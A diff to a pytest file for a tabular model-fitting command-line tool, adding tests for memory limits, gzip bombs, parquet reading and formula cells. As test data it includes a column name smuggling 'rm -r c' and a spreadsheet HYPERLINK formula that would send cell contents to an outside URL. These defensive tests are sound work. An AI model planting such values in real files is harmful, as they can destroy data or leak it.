@@ -7,6 +7,7 @@ import json
 import os
 import subprocess
 import sys
+import tracemalloc
 from pathlib import Path
 
 import polars as pl
@@ -99,20 +100,64 @@ def test_a_name_longer_than_what_tells_formats_apart(shell: Shell, tmp_path: Pat
     assert len(done.err) < 1000
 
 
-def test_gzip_may_unpack_to_a_part_of_the_memory(
+def test_names_that_are_longer_together(shell: Shell, tmp_path: Path) -> None:
+    """The last names of a header of 70 kB are not cut to doubles of each other."""
+    path = tmp_path / "wide.csv"
+    names = [f"{k:03} {'x' * 96}" for k in range(700)]
+    rows = "".join(f"{k % 3},{'1,' * 699}{k % 2},{k % 5 == 0:d}\n" for k in range(60))
+    path.write_text(f"{','.join(names)},click,buy\n{rows}")
+    done = fit(shell, path, "--no-tune")
+    assert done.code == 0, done.err
+    assert len(done.err.splitlines()) == 2
+    assert "and 693 more are not used" in done.err
+
+
+def test_gzip_may_unpack_to_what_fits_the_memory(
     shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     path = tmp_path / "table.csv.gz"
     text = make_table().write_csv().encode()
     path.write_bytes(gzip.compress(text))
-    share = _table_files.UNPACKED_SHARE
-    monkeypatch.setattr(_table_files, "memory_limit", lambda: share * len(text))
-    done = fit(shell, path)
-    assert done.code == 0, done.err
-    monkeypatch.setattr(_table_files, "memory_limit", lambda: share * (len(text) - 1))
-    done = fit(shell, path)
+    n_fields = text.count(b"\n") + text.count(b",")
+    needed = 48 * n_fields + 4 * len(text)
+    for limit, code in ((2 * needed, 0), (2 * needed - 2, 2)):
+        monkeypatch.setattr(_table_files, "memory_limit", lambda limit=limit: limit)
+        done = fit(shell, path, "--no-tune")
+        assert done.code == code, done.err
+    assert "unpacks to 0 million fields or more" in done.err
+
+
+@pytest.mark.parametrize("content", [b",,,,,,,\n", b"1\n", b'{"a":[1,1,1,1,1,1,1]}\n', b"x" * 99])
+def test_a_gzip_bomb_is_not_unpacked_whole(
+    shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: bytes
+) -> None:
+    path = tmp_path / "bomb.gz"
+    path.write_bytes(gzip.compress(b"a,b,c,d,e,f,g,h\n" + content * (2**26 // len(content)), 1))
+    monkeypatch.setattr(_table_files, "memory_limit", lambda: 2 * 10**8)
+    monkeypatch.setattr(_table_files, "_UNPACKED", 2**18)
+    tracemalloc.start()
+    done = shell("audit", path, *BOTH, "--score", "x")
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
     assert done.code == 2
-    assert f"1/{share} of the memory" in done.err
+    assert "unpacks to" in done.err
+    assert peak < 10**8
+
+
+def test_a_long_parquet_file_is_read_in_pieces_or_refused(
+    shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Equal values take no room in the file."""
+    path = tmp_path / "table.parquet"
+    make_table().write_parquet(path)
+    needed = 48 * make_table().height * make_table().width
+    for limit, code in ((2 * needed, 0), (2 * needed - 2, 2)):
+        monkeypatch.setattr(_table_files, "memory_limit", lambda limit=limit: limit)
+        done = fit(shell, path, "--no-tune")
+        assert done.code == code, done.err
+    assert "which may take 0.0 GB: more than half of the 0.0 GB of memory" in done.err
+    done = shell("sketch", path, *BOTH, "--score", "score", "--out", tmp_path / "s")
+    assert done.code == 0, done.err
 
 
 def test_the_terminal_obeys_no_name(shell: Shell, tmp_path: Path) -> None:
@@ -133,11 +178,23 @@ def test_the_terminal_obeys_no_name(shell: Shell, tmp_path: Path) -> None:
 def test_suggested_options_can_be_pasted(shell: Shell, tmp_path: Path) -> None:
     path = tmp_path / "texts.csv"
     names = range(300)
-    make_table().with_columns(pl.Series("a b; rm -r c", [f"w{name}" for name in names])).write_csv(
-        path
-    )
+    words = pl.Series("a b; rm -r c", [f"w{name}" for name in names])
+    make_table().drop("id").with_columns(words).write_csv(path)
     done = fit(shell, path)
     assert "--text 'a b; rm -r c' uses its words" in done.err
+
+
+def test_cells_that_spreadsheets_would_run_stay_as_they_are(shell: Shell, tmp_path: Path) -> None:
+    """As docs/command-line.md says, which warns of them."""
+    formula = '=HYPERLINK("http://example.org/?"&A1;"x")'
+    path, out = tmp_path / "formulas.csv", tmp_path / "o.csv"
+    make_table().with_columns(id=pl.lit(formula), extra=pl.lit("@SUM(A1)")).write_csv(path)
+    assert fit(shell, path, "--no-tune", "--features", "x").code == 0
+    done = shell("rank", path, "--model", tmp_path / "m", "--score-name", "s", "--out", out)
+    assert done.code == 0, done.err
+    found = pl.read_csv(out)
+    assert found["id"].unique().to_list() == [formula]
+    assert found["extra"].unique().to_list() == ["@SUM(A1)"]
 
 
 @pytest.mark.parametrize("closed", [">&-", ">&- 2>&-", "2>&-"])
